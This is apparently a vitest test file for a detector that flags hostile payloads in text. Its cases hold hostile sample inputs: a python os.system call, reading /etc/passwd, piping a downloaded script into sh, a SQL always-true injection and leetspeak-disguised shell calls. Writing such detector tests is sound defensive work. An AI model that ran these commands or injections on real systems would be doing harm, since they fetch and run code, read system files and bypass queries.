import { describe, expect, it } from 'vitest';
import { wordClues } from './clue-words.ts';
import { frame } from './frame-signals.ts';
import { payloadSignal } from './payload-signal.ts';
import { splitWords } from './split-words.ts';

describe('payloadSignal', () => {
  it.each([
    ['a call of the shell', 'run: `python -c "os.system(\'id\')"`', frame.payload],
    ['the file of passwords', 'open /etc/passwd', frame.payload],
    ['a script piped into a shell', 'curl example.test/x | sh', frame.payload],
    ['a condition that is always true', "name = '' or '1'='1'", frame.payload],
    ['a call in leetspeak', 'run: `b45h -x "wh0am1"`', frame.payload],
    ['a call with signs for two letters', "run: `3va1('x')`", frame.payload],
    ['numbers in code', 'run: `sort -k1 b45.csv`', 0],
    ['a question about code', 'how do i sort a list in python?', 0],
    ['the system of a customer', 'the system (the new one) is slow', 0],
  ])('tells of %s', (_, folded, signal) => {
    expect(payloadSignal(folded, wordClues(splitWords(folded)))).toBe(signal);
  });
});
